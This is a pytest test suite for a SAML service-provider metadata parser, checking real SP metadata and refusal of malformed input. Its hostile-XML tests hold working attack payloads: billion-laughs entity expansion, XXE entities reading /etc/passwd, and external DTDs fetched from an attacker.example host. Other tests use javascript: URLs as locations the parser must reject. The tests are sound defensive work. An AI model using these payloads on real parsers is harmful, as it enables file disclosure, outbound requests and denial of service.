"""SP metadata parsing: what real SP software publishes, and what hostile or broken metadata looks like."""

from __future__ import annotations

import base64
import shutil
import subprocess
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from idp.errors import ValidationError
from idp.saml import xml as saml_xml
from idp.saml.names import (
    BINDING_HTTP_POST,
    BINDING_HTTP_REDIRECT,
    NAMEID_EMAIL,
    NAMEID_PERSISTENT,
    NAMEID_TRANSIENT,
)
from idp.saml.sp_metadata import MAX_ITEMS, Endpoint, SpMetadata, parse_sp_metadata
from tests.support import self_signed_certificate

SAMPLES = Path(__file__).parent / "sp_metadata"
BINDING_HTTP_ARTIFACT = "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Artifact"
SAML1_BROWSER_POST = "urn:oasis:names:tc:SAML:1.0:profiles:browser-post"


def sample(name: str) -> bytes:
    return (SAMPLES / name).read_bytes()


def b64_der(pem: bytes) -> str:
    """The form the parser returns a certificate in, computed independently from the PEM file."""
    certificate = x509.load_pem_x509_certificate(pem)
    return base64.b64encode(certificate.public_bytes(serialization.Encoding.DER)).decode()


def refused(data: bytes, **kwargs) -> str:
    with pytest.raises(ValidationError) as caught:
        parse_sp_metadata(data, **kwargs)
    assert caught.value.field == "metadata"
    return caught.value.message


@pytest.fixture(scope="module")
def key_pair(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A fresh self-signed SP key and certificate on disk, as SP software is configured with."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    certificate = self_signed_certificate(key, "app.example.com")
    folder = tmp_path_factory.mktemp("sp-keys")
    key_file, cert_file = folder / "sp.key", folder / "sp.crt"
    key_file.write_bytes(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    cert_file.write_bytes(certificate.public_bytes(serialization.Encoding.PEM))
    return key_file, cert_file


CERT = b64_der(sample("mellon.crt"))


def sp(
    body: str = "",
    *,
    acs: str | None = None,
    entity_id: str = 'entityID="https://sp.example.com/metadata"',
    protocols: str = "urn:oasis:names:tc:SAML:2.0:protocol",
) -> bytes:
    """A minimal SP EntityDescriptor with `body` and `acs` inside its SPSSODescriptor."""
    if acs is None:
        acs = post_acs("https://sp.example.com/acs", 0)
    return (
        f'<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata"'
        f' xmlns:ds="http://www.w3.org/2000/09/xmldsig#" {entity_id}>'
        f'<md:SPSSODescriptor protocolSupportEnumeration="{protocols}">{body}{acs}</md:SPSSODescriptor>'
        f"</md:EntityDescriptor>"
    ).encode()


def key_descriptor(certificate: str, use: str | None = None) -> str:
    use_attribute = f' use="{use}"' if use else ""
    return (
        f"<md:KeyDescriptor{use_attribute}><ds:KeyInfo><ds:X509Data>"
        f"<ds:X509Certificate>{certificate}</ds:X509Certificate>"
        f"</ds:X509Data></ds:KeyInfo></md:KeyDescriptor>"
    )


def acs_element(binding: str, location: str, index: int | str, extra: str = "") -> str:
    return f'<md:AssertionConsumerService Binding="{binding}" Location="{location}" index="{index}"{extra}/>'


def post_acs(location: str, index: int, default: str | None = None) -> str:
    return acs_element(BINDING_HTTP_POST, location, index, f' isDefault="{default}"' if default is not None else "")


# --- Real-world metadata --------------------------------------------------------------------------


def test_shibboleth_sp3_metadata_keeps_only_saml2_http_post_acs_and_uses_the_unlabelled_key_for_both():
    metadata = parse_sp_metadata(sample("shibboleth-sp3.xml"))
    shibboleth_cert = b64_der(sample("shibboleth-sp3.crt"))
    base = "https://sp.example.org/Shibboleth.sso"
    assert metadata == SpMetadata(
        entity_id="https://sp.example.org/shibboleth",
        assertion_consumer_services=[Endpoint(BINDING_HTTP_POST, f"{base}/SAML2/POST", index=1)],
        single_logout_services=[
            Endpoint(BINDING_HTTP_REDIRECT, f"{base}/SLO/Redirect"),
            Endpoint(BINDING_HTTP_POST, f"{base}/SLO/POST"),
        ],
        signing_certificates=[shibboleth_cert],
        encryption_certificates=[shibboleth_cert],
        authn_requests_signed=False,
        want_assertions_signed=False,
        name_id_formats=[],
    )


def test_simplesamlphp_metadata_during_key_rollover_lists_both_signing_certificates_and_the_new_encryption_one():
    metadata = parse_sp_metadata(sample("simplesamlphp.xml"))
    old, new = b64_der(sample("simplesamlphp.crt")), b64_der(sample("simplesamlphp-new.crt"))
    base = "https://sp.example.net/simplesaml/module.php/saml/sp"
    assert metadata == SpMetadata(
        entity_id=f"{base}/metadata/default-sp",
        assertion_consumer_services=[Endpoint(BINDING_HTTP_POST, f"{base}/saml2-acs.php/default-sp", index=0)],
        single_logout_services=[Endpoint(BINDING_HTTP_REDIRECT, f"{base}/saml2-logout.php/default-sp")],
        signing_certificates=[old, new],
        encryption_certificates=[new],
        authn_requests_signed=True,
        want_assertions_signed=True,
        name_id_formats=[NAMEID_TRANSIENT],
    )


def test_mod_auth_mellon_metadata_with_default_namespace_and_wrapped_certificate_lines():
    metadata = parse_sp_metadata(sample("mellon.xml"))
    assert metadata == SpMetadata(
        entity_id="urn:example:wiki",
        assertion_consumer_services=[
            Endpoint(BINDING_HTTP_POST, "https://wiki.example.com/mellon/postResponse", index=0)
        ],
        single_logout_services=[Endpoint(BINDING_HTTP_REDIRECT, "https://wiki.example.com/mellon/logout")],
        signing_certificates=[CERT],
        encryption_certificates=[CERT],
        authn_requests_signed=True,
        want_assertions_signed=False,
        name_id_formats=[],
    )


def test_metadata_written_by_the_real_mellon_create_metadata_script(tmp_path: Path):
    script = shutil.which("mellon_create_metadata") or shutil.which("mellon_create_metadata", path="/usr/sbin")
    if script is None:
        pytest.skip("mellon_create_metadata is not installed (Debian package libapache2-mod-auth-mellon)")
    subprocess.run(
        [script, "urn:example:wiki", "https://wiki.example.com/mellon/"],
        cwd=tmp_path,
        check=True,
        capture_output=True,
    )
    metadata = parse_sp_metadata((tmp_path / "urn_example_wiki.xml").read_bytes())
    certificate = b64_der((tmp_path / "urn_example_wiki.cert").read_bytes())
    assert metadata.entity_id == "urn:example:wiki"
    assert metadata.assertion_consumer_services == [
        Endpoint(BINDING_HTTP_POST, "https://wiki.example.com/mellon/postResponse", index=0)
    ]
    assert metadata.signing_certificates == metadata.encryption_certificates == [certificate]


def test_python3_saml_generated_metadata(key_pair: tuple[Path, Path]):
    from onelogin.saml2.settings import OneLogin_Saml2_Settings

    key_file, cert_file = key_pair
    settings = OneLogin_Saml2_Settings(
        {
            "strict": True,
            "sp": {
                "entityId": "https://app.example.com/saml/metadata",
                "assertionConsumerService": {"url": "https://app.example.com/saml/acs", "binding": BINDING_HTTP_POST},
                "singleLogoutService": {"url": "https://app.example.com/saml/sls", "binding": BINDING_HTTP_REDIRECT},
                "NameIDFormat": NAMEID_EMAIL,
                "x509cert": cert_file.read_text(),
                "privateKey": key_file.read_text(),
            },
            "security": {"authnRequestsSigned": True, "wantAssertionsSigned": True, "wantAssertionsEncrypted": True},
        },
        sp_validation_only=True,
    )
    metadata = parse_sp_metadata(settings.get_sp_metadata())
    certificate = b64_der(cert_file.read_bytes())
    assert metadata == SpMetadata(
        entity_id="https://app.example.com/saml/metadata",
        assertion_consumer_services=[Endpoint(BINDING_HTTP_POST, "https://app.example.com/saml/acs", index=1)],
        single_logout_services=[Endpoint(BINDING_HTTP_REDIRECT, "https://app.example.com/saml/sls")],
        signing_certificates=[certificate],
        encryption_certificates=[certificate],
        authn_requests_signed=True,
        want_assertions_signed=True,
        name_id_formats=[NAMEID_EMAIL],
    )


def test_pysaml2_generated_metadata_with_separate_encryption_key(key_pair: tuple[Path, Path]):
    from saml2.config import SPConfig
    from saml2.metadata import entity_descriptor

    key_file, cert_file = key_pair
    encryption_cert = SAMPLES / "simplesamlphp-new.crt"
    config = SPConfig()
    config.load(
        {
            "entityid": "https://pysaml2.example.com/sp.xml",
            "key_file": str(key_file),
            "cert_file": str(cert_file),
            # pysaml2 only reads the certificate to write metadata; the key file need not match it.
            "encryption_keypairs": [{"key_file": str(key_file), "cert_file": str(encryption_cert)}],
            "service": {
                "sp": {
                    "endpoints": {
                        "assertion_consumer_service": [
                            ("https://pysaml2.example.com/acs/post", BINDING_HTTP_POST),
                            ("https://pysaml2.example.com/acs/artifact", BINDING_HTTP_ARTIFACT),
                        ],
                        "single_logout_service": [
                            ("https://pysaml2.example.com/slo/redirect", BINDING_HTTP_REDIRECT),
                            ("https://pysaml2.example.com/slo/post", BINDING_HTTP_POST),
                        ],
                    },
                    "authn_requests_signed": True,
                    "want_assertions_signed": True,
                    "name_id_format": [NAMEID_PERSISTENT, NAMEID_TRANSIENT],
                }
            },
        }
    )
    metadata = parse_sp_metadata(str(entity_descriptor(config)).encode())
    assert metadata == SpMetadata(
        entity_id="https://pysaml2.example.com/sp.xml",
        assertion_consumer_services=[Endpoint(BINDING_HTTP_POST, "https://pysaml2.example.com/acs/post", index=1)],
        single_logout_services=[
            Endpoint(BINDING_HTTP_REDIRECT, "https://pysaml2.example.com/slo/redirect"),
            Endpoint(BINDING_HTTP_POST, "https://pysaml2.example.com/slo/post"),
        ],
        signing_certificates=[b64_der(cert_file.read_bytes())],
        encryption_certificates=[b64_der(encryption_cert.read_bytes())],
        authn_requests_signed=True,
        want_assertions_signed=True,
        name_id_formats=[NAMEID_PERSISTENT, NAMEID_TRANSIENT],
    )


# --- Choosing the entity and the role --------------------------------------------------------------

IDP_ENTITY = (
    '<md:EntityDescriptor entityID="https://idp.example.org/idp">'
    '<md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">'
    f'<md:SingleSignOnService Binding="{BINDING_HTTP_REDIRECT}" Location="https://idp.example.org/sso"/>'
    "</md:IDPSSODescriptor></md:EntityDescriptor>"
)


def sp_entity(entity_id: str, acs: str) -> str:
    return (
        f'<md:EntityDescriptor entityID="{entity_id}">'
        '<md:SPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">'
        f"{post_acs(acs, 0)}</md:SPSSODescriptor></md:EntityDescriptor>"
    )


def aggregate(*entities: str) -> bytes:
    return (
        '<md:EntitiesDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" Name="urn:example:federation">'
        + "".join(entities)
        + "</md:EntitiesDescriptor>"
    ).encode()


def test_entities_descriptor_with_one_sp_among_idps_needs_no_entity_id():
    metadata = parse_sp_metadata(
        aggregate(IDP_ENTITY, sp_entity("https://a.example.com/sp", "https://a.example.com/acs"))
    )
    assert metadata.entity_id == "https://a.example.com/sp"
    assert metadata.assertion_consumer_services[0].location == "https://a.example.com/acs"


def test_entity_id_picks_an_sp_from_an_entities_descriptor_including_nested_ones():
    data = aggregate(
        sp_entity("https://a.example.com/sp", "https://a.example.com/acs"),
        '<md:EntitiesDescriptor Name="urn:example:inner">'
        + sp_entity("https://b.example.com/sp", "https://b.example.com/acs")
        + "</md:EntitiesDescriptor>",
    )
    metadata = parse_sp_metadata(data, entity_id="https://b.example.com/sp")
    assert metadata.assertion_consumer_services[0].location == "https://b.example.com/acs"


def test_entities_descriptor_with_two_sps_and_no_entity_id_asks_for_one():
    data = aggregate(
        sp_entity("https://a.example.com/sp", "https://a.example.com/acs"),
        sp_entity("https://b.example.com/sp", "https://b.example.com/acs"),
    )
    assert "describes 2 service providers; give the entity_id" in refused(data)


def test_entity_id_not_in_the_entities_descriptor_is_refused():
    data = aggregate(sp_entity("https://a.example.com/sp", "https://a.example.com/acs"))
    assert "no EntityDescriptor with entityID 'https://c.example.com/sp'" in refused(
        data, entity_id="https://c.example.com/sp"
    )


def test_entity_id_that_differs_from_the_single_entity_descriptor_is_refused():
    assert "describes entityID 'https://sp.example.com/metadata', not 'https://other.example.com'" in refused(
        sp(), entity_id="https://other.example.com"
    )


def test_matching_entity_id_on_a_single_entity_descriptor_is_accepted():
    assert parse_sp_metadata(sp(), entity_id="https://sp.example.com/metadata").entity_id == (
        "https://sp.example.com/metadata"
    )


def test_idp_only_metadata_is_refused_for_having_no_sp_role():
    data = IDP_ENTITY.replace(
        "<md:EntityDescriptor", '<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata"'
    )
    assert "has no SPSSODescriptor" in refused(data.encode())


def test_entities_descriptor_without_any_sp_is_refused():
    assert "has no SPSSODescriptor" in refused(aggregate(IDP_ENTITY))


def test_sp_role_without_saml2_in_protocol_support_enumeration_is_refused():
    message = refused(sp(protocols="urn:oasis:names:tc:SAML:1.1:protocol"))
    assert "does not list urn:oasis:names:tc:SAML:2.0:protocol in protocolSupportEnumeration" in message


def test_other_roles_and_unknown_extensions_are_ignored():
    data = (
        '<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" xmlns:x="urn:example:unknown"'
        ' entityID="https://sp.example.com/metadata">'
        '<md:Extensions><x:Anything Location="javascript:alert(1)"/></md:Extensions>'
        '<md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">'
        f'<md:SingleSignOnService Binding="{BINDING_HTTP_REDIRECT}" Location="https://sp.example.com/sso"/>'
        "</md:IDPSSODescriptor>"
        '<md:SPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">'
        '<md:Extensions><x:Whatever index="0"/></md:Extensions>'
        f"{post_acs('https://sp.example.com/acs', 0)}"
        "</md:SPSSODescriptor>"
        '<md:AttributeAuthorityDescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"/>'
        "</md:EntityDescriptor>"
    ).encode()
    metadata = parse_sp_metadata(data)
    assert metadata.assertion_consumer_services == [Endpoint(BINDING_HTTP_POST, "https://sp.example.com/acs", index=0)]


# --- Endpoints ---------------------------------------------------------------------------------------


def test_acs_endpoints_are_ordered_default_first_then_by_index():
    acs = (
        post_acs("https://sp.example.com/acs/3", 3)
        + post_acs("https://sp.example.com/acs/1", 1)
        + post_acs("https://sp.example.com/acs/7", 7, default="true")
        + post_acs("https://sp.example.com/acs/2", 2, default="false")
    )
    metadata = parse_sp_metadata(sp(acs=acs))
    assert [(e.index, e.is_default) for e in metadata.assertion_consumer_services] == [
        (7, True),
        (1, False),
        (2, False),
        (3, False),
    ]


def test_acs_response_location_is_kept():
    acs = (
        f'<md:AssertionConsumerService Binding="{BINDING_HTTP_POST}" Location="https://sp.example.com/acs"'
        ' ResponseLocation="https://sp.example.com/acs/response" index="0" isDefault="1"/>'
    )
    (endpoint,) = parse_sp_metadata(sp(acs=acs)).assertion_consumer_services
    assert endpoint == Endpoint(
        BINDING_HTTP_POST, "https://sp.example.com/acs", "https://sp.example.com/acs/response", 0, True
    )


def test_plain_http_acs_is_returned_for_the_application_rules_to_judge():
    # Whether http is allowed is a deployment setting, applied by idp.applications.fields on acs_url.
    metadata = parse_sp_metadata(sp(acs=post_acs("http://localhost:8080/acs", 0)))
    assert metadata.assertion_consumer_services[0].location == "http://localhost:8080/acs"


def test_metadata_with_only_artifact_and_saml1_acs_is_refused():
    acs = acs_element(BINDING_HTTP_ARTIFACT, "https://sp.example.com/a", 0) + acs_element(
        SAML1_BROWSER_POST, "https://sp.example.com/b", 1
    )
    assert f"has no AssertionConsumerService with Binding {BINDING_HTTP_POST}" in refused(sp(acs=acs))


def test_relative_acs_location_is_refused():
    assert "AssertionConsumerService index 0 Location must be an absolute http(s) URL" in refused(
        sp(acs=post_acs("/Shibboleth.sso/SAML2/POST", 0))
    )


def test_javascript_acs_location_is_refused():
    assert "Location must be an absolute http(s) URL" in refused(
        sp(acs=post_acs("javascript:alert(document.domain)", 0))
    )


@pytest.mark.parametrize(
    "location",
    [
        "ftp://sp.example.com/acs",
        "https:///acs",
        "data:text/html,<x>".replace("<", "&lt;").replace(">", "&gt;"),
        "https://sp.example.com/a cs",
        "https://[::1/acs",
        "",
    ],
)
def test_acs_location_that_is_not_an_absolute_http_url_is_refused(location: str):
    assert "must be an absolute http(s) URL" in refused(sp(acs=post_acs(location, 0)))


def test_acs_location_with_credentials_is_refused():
    assert "must not carry credentials or a fragment" in refused(sp(acs=post_acs("https://u:p@sp.example.com/acs", 0)))


def test_acs_without_location_is_refused():
    acs = f'<md:AssertionConsumerService Binding="{BINDING_HTTP_POST}" index="0"/>'
    assert "AssertionConsumerService index 0 has no Location" in refused(sp(acs=acs))


def test_duplicate_acs_indexes_are_refused_even_across_bindings():
    acs = post_acs("https://sp.example.com/acs", 1) + acs_element(
        BINDING_HTTP_ARTIFACT, "https://sp.example.com/art", 1
    )
    assert "two AssertionConsumerService endpoints with index 1" in refused(sp(acs=acs))


@pytest.mark.parametrize("index", ["-1", "65536", "one", "1.5", ""])
def test_acs_index_that_is_not_an_unsigned_short_is_refused(index: str):
    acs = acs_element(BINDING_HTTP_POST, "https://sp.example.com/acs", index)
    assert "index must be a whole number from 0 to 65535" in refused(sp(acs=acs))


def test_is_default_that_is_not_a_boolean_is_refused():
    assert "AssertionConsumerService index 0 isDefault must be true or false" in refused(
        sp(acs=post_acs("https://sp.example.com/acs", 0, default="yes"))
    )


def test_more_acs_endpoints_than_the_limit_are_refused():
    acs = "".join(post_acs(f"https://sp.example.com/acs/{i}", i) for i in range(MAX_ITEMS + 1))
    assert f"more than {MAX_ITEMS} AssertionConsumerService endpoints" in refused(sp(acs=acs))


def test_more_slo_endpoints_than_the_limit_are_refused():
    slo = f'<md:SingleLogoutService Binding="{BINDING_HTTP_REDIRECT}" Location="https://sp.example.com/slo"/>'
    assert f"more than {MAX_ITEMS} SingleLogoutService endpoints" in refused(sp(slo * (MAX_ITEMS + 1)))


def test_slo_location_is_checked_like_acs_location():
    slo = f'<md:SingleLogoutService Binding="{BINDING_HTTP_REDIRECT}" Location="javascript:alert(1)"/>'
    assert "SingleLogoutService Location must be an absolute http(s) URL" in refused(sp(slo))


# --- Certificates --------------------------------------------------------------------------------------


def test_key_descriptors_without_an_x509_certificate_are_skipped():
    body = "<md:KeyDescriptor use='signing'><ds:KeyInfo><ds:KeyName>sp</ds:KeyName></ds:KeyInfo></md:KeyDescriptor>"
    metadata = parse_sp_metadata(sp(body + key_descriptor(CERT, "encryption")))
    assert metadata.signing_certificates == []
    assert metadata.encryption_certificates == [CERT]


def test_the_same_certificate_twice_is_listed_once():
    metadata = parse_sp_metadata(sp(key_descriptor(CERT, "signing") + key_descriptor(CERT)))
    assert metadata.signing_certificates == metadata.encryption_certificates == [CERT]


def test_certificate_that_is_base64_but_not_x509_is_refused():
    garbage = base64.b64encode(b"this is not a DER certificate at all").decode()
    assert "certificate 1 is not a valid X.509 certificate" in refused(sp(key_descriptor(garbage, "signing")))


def test_truncated_certificate_is_refused():
    assert "certificate 1 is not a valid X.509 certificate" in refused(sp(key_descriptor(CERT[:400], "signing")))


def test_certificate_that_is_not_base64_is_refused():
    pem = sample("mellon.crt").decode()
    assert "certificate 1 is not base64" in refused(sp(key_descriptor(pem, "signing")))


def test_empty_certificate_is_refused():
    assert "certificate 1 is empty" in refused(sp(key_descriptor("  \n ", "signing")))


def test_key_descriptor_with_an_unknown_use_is_refused():
    assert "KeyDescriptor use must be signing or encryption" in refused(sp(key_descriptor(CERT, "both")))


def test_more_certificates_than_the_limit_are_refused():
    body = key_descriptor(CERT, "signing") * (MAX_ITEMS + 1)
    assert f"more than {MAX_ITEMS} certificates" in refused(sp(body))


# --- Document-level problems ----------------------------------------------------------------------------


def test_entity_descriptor_without_entity_id_is_refused():
    assert "EntityDescriptor has no entityID" in refused(sp(entity_id=""))


def test_blank_entity_id_is_refused():
    assert "EntityDescriptor has no entityID" in refused(sp(entity_id='entityID="  "'))


def test_overlong_entity_id_is_refused():
    assert "entityID is longer than 1024 characters" in refused(sp(entity_id=f'entityID="urn:x:{"a" * 1024}"'))


def test_wrong_root_element_is_refused():
    data = b'<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"/>'
    assert "must be an md:EntityDescriptor or md:EntitiesDescriptor, not 'AuthnRequest'" in refused(data)


def test_entity_descriptor_outside_the_metadata_namespace_is_refused():
    data = sp().replace(b'xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata"', b'xmlns:md="urn:example:not-saml"')
    assert "must be an md:EntityDescriptor or md:EntitiesDescriptor" in refused(data)


def test_non_boolean_authn_requests_signed_is_refused():
    data = sp().replace(b"<md:SPSSODescriptor ", b'<md:SPSSODescriptor AuthnRequestsSigned="yes" ')
    assert "SPSSODescriptor AuthnRequestsSigned must be true or false" in refused(data)


def test_name_id_formats_are_trimmed_and_deduplicated():
    body = (
        f"<md:NameIDFormat>\n  {NAMEID_EMAIL}\n</md:NameIDFormat>"
        f"<md:NameIDFormat>{NAMEID_EMAIL}</md:NameIDFormat><md:NameIDFormat>{NAMEID_PERSISTENT}</md:NameIDFormat>"
    )
    assert parse_sp_metadata(sp(body)).name_id_formats == [NAMEID_EMAIL, NAMEID_PERSISTENT]


def test_not_xml_is_refused():
    assert "metadata is not well-formed XML" in refused(
        b"entityID=https://sp.example.com acs=https://sp.example.com/acs"
    )


def test_empty_input_is_refused():
    assert "metadata is not well-formed XML" in refused(b"")


def test_truncated_xml_is_refused():
    assert "metadata is not well-formed XML" in refused(sp()[:-30])


def test_input_over_the_size_limit_is_refused_before_parsing():
    padding = "<!--" + "x" * saml_xml.MAX_BYTES + "-->"
    assert f"metadata is larger than {saml_xml.MAX_BYTES} bytes" in refused(sp(padding))


# --- Hostile XML ----------------------------------------------------------------------------------------


def hostile(message: str) -> bool:
    """Refused either by the DOCTYPE rule or earlier, by libxml2's own entity guards."""
    return "must not contain a DOCTYPE" in message or "metadata is not well-formed XML" in message


def test_billion_laughs_is_refused_without_expanding():
    data = b"""<?xml version="1.0"?>
<!DOCTYPE md:EntityDescriptor [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
""" + sp(body="<md:NameIDFormat>&lol9;</md:NameIDFormat>")
    message = refused(data)
    assert hostile(message)
    assert "lollol" not in message


def test_entity_declarations_that_are_harmless_are_still_refused_for_the_doctype():
    data = b'<?xml version="1.0"?>\n<!DOCTYPE md:EntityDescriptor [<!ENTITY acs "https://sp.example.com/acs">]>\n' + sp(
        acs=post_acs("&acs;", 0)
    )
    assert "must not contain a DOCTYPE" in refused(data)


PASSWD = Path("/etc/passwd").read_text() if Path("/etc/passwd").exists() else "root:x:0:0:"


@pytest.mark.parametrize(
    "where",
    [
        {"body": "<md:NameIDFormat>&xxe;</md:NameIDFormat>"},
        {"acs": post_acs("&xxe;", 0)},
        {"entity_id": 'entityID="https://sp.example.com/&xxe;"'},
    ],
    ids=["element", "acs-location", "entity-id"],
)
def test_external_entity_to_etc_passwd_is_refused_and_does_not_leak_the_file(where: dict[str, str]):
    data = b"""<?xml version="1.0"?>
<!DOCTYPE md:EntityDescriptor [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
""" + sp(**where)
    message = refused(data)
    assert hostile(message)
    assert "root:" not in message
    assert PASSWD.splitlines()[0] not in message


def test_parameter_entity_fetching_an_external_dtd_is_refused():
    data = b"""<?xml version="1.0"?>
<!DOCTYPE md:EntityDescriptor [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
""" + sp()
    assert hostile(refused(data))


def test_external_dtd_is_refused():
    data = b'<?xml version="1.0"?>\n<!DOCTYPE md:EntityDescriptor SYSTEM "http://attacker.example/saml.dtd">\n' + sp()
    assert "must not contain a DOCTYPE" in refused(data)


def _sp(extensions: str = "", services: str = "", entity_extensions: str = "") -> bytes:
    return f"""<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata"
        xmlns:alg="urn:oasis:names:tc:SAML:metadata:algsupport" entityID="https://sp.example.org/sp">
      {entity_extensions}
      <md:SPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">
        {extensions}
        <md:AssertionConsumerService index="0" Binding="{BINDING_HTTP_POST}" Location="https://sp.example.org/acs"/>
        {services}
      </md:SPSSODescriptor>
    </md:EntityDescriptor>""".encode()


RSA_SHA384 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha384"


def test_algorithms_of_the_entity_apply_when_the_role_lists_none():
    entity = f'<md:Extensions><alg:SigningMethod Algorithm="{RSA_SHA384}"/></md:Extensions>'
    meta = parse_sp_metadata(_sp(entity_extensions=entity))
    assert (meta.signing_methods, meta.digest_methods) == ([RSA_SHA384], [])


@pytest.mark.parametrize(
    ("services", "problem"),
    [
        ('<md:AttributeConsumingService index="x"/>', "index must be a whole number"),
        (
            '<md:AttributeConsumingService index="1"/><md:AttributeConsumingService index="1"/>',
            "two AttributeConsumingService elements with index 1",
        ),
        ('<md:AttributeConsumingService index="1"><md:RequestedAttribute/></md:AttributeConsumingService>', "Name"),
        (
            '<md:AttributeConsumingService index="1"><md:RequestedAttribute Name="a" isRequired="maybe"/>'
            "</md:AttributeConsumingService>",
            "isRequired",
        ),
    ],
)
def test_broken_attribute_consuming_services_are_refused_naming_the_problem(services, problem):
    with pytest.raises(ValidationError, match=problem):
        parse_sp_metadata(_sp(services=services))
